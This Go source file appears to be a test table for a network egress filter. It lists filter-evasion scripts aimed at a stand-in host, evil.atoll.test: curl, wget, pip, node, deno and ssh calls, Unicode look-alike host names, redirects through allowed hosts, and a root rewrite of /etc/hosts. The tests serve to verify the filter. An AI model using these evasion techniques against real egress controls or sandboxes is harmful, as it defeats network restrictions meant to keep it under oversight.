package egress

// Names that are not in the list, in all dresses.
var nameRows = []evasion{
	{id: "clients", attack: "ordinary programs connect to a host that is not in the list", in: listed, script: `#!
export GIT_TERMINAL_PROMPT=0
curl -s -m 60 http://evil.atoll.test/; curl -sk -m 60 https://evil.atoll.test/
wget -qO- -T 60 -t 1 http://evil.atoll.test/
timeout 60 git ls-remote https://evil.atoll.test/evil.git
timeout 60 pip download -q --retries 0 --timeout 60 --trusted-host evil.atoll.test -i http://evil.atoll.test/simple evil
timeout 60 node -e 'fetch("http://evil.atoll.test/").catch(() => {})'
timeout 60 deno eval 'await fetch("http://evil.atoll.test/").catch(() => {})'
timeout 5 ssh -o StrictHostKeyChecking=no -o ConnectTimeout=3 evil.atoll.test true
echo done`, prints: "done"},
	{id: "name-case", attack: "capitals and a final dot in a refused name", in: listed, script: `#!
curl -s -m 60 http://EVIL.atoll.TEST./; curl -s -m 60 http://evil.atoll.test./; echo done`, prints: "done"},
	{id: "name-idna", attack: "a refused name in look-alike characters that become it", in: listed, script: `#!
curl -s -m 60 http://ｅｖｉｌ.atoll.test/; curl -s -m 60 'http://evil。atoll。test/'
node -e 'fetch("http://ｅｖｉｌ。atoll.test/").catch(() => {})'`},
	{id: "name-apex", attack: "the name behind the star of *.example.com itself", in: listed, script: `#!
curl -s -m 60 http://wild.atoll.test/; curl -s -m 60 http://fine.wild.atoll.test/fine`,
		arrives: []string{"raw"}, never: "dns wild|^evil", open: "^evil"},
	{id: "name-lookalike", attack: "names that begin or end like an allowed one", in: listed, script: `#!
curl -s -m 60 http://badwild.atoll.test/; curl -s -m 60 http://api.atoll.test.evil.test/; curl -s -m 60 http://xapi.atoll.test/`,
		never: "badwild|evil|xapi"},
	{id: "name-port", attack: "another port of a host that is allowed on one", in: listed,
		script: `talk(MAIL, 25, b"EHLO evil\r\n")`},
	{id: "redirect", attack: "an allowed host redirects to a refused one", in: listed, script: `#!
curl -s -m 60 -L http://api.atoll.test/away; curl -sk -m 60 -L http://api.atoll.test/away-tls
timeout 60 node -e 'fetch("http://api.atoll.test/away").catch(() => {})'
timeout 60 deno eval 'await fetch("http://api.atoll.test/away").catch(() => {})'
python3 -c 'import urllib.request as u; u.urlopen("http://api.atoll.test/away", timeout=60)' 2>&1 | tail -1`,
		arrives: []string{"api GET api.atoll.test/away HTTP/1.1", "api GET api.atoll.test/away-tls HTTP/1.1"}},
	{id: "hosts-file", attack: "the guest's own hosts file gives an allowed name a refused address", in: listed, root: true, script: `
entry = EVIL4 + " api.atoll.test raw.atoll.test\n"
before = open("/etc/hosts").read()
open("/etc/hosts", "a").write(entry)
try:
    talk(API, 80, http("GET /evil HTTP/1.1", "Host: api.atoll.test"))
    talk(RAW, 443, records(hello(RAW)))
finally:
    open("/etc/hosts", "w").write(before)`},
	{id: "none", attack: "anything at all under an empty list", in: none, script: `
for host in (API, EVIL, EVIL4, API4, EVIL6):
    talk(host, 80, http("GET /evil HTTP/1.1", "Host: " + host))
shout(EVIL4, 443)
for name in (API, "evil.test", "evil.evil.test"):
    ask(question(name)), ask(question(name, "TXT"), "8.8.8.8")`, never: "."},
}
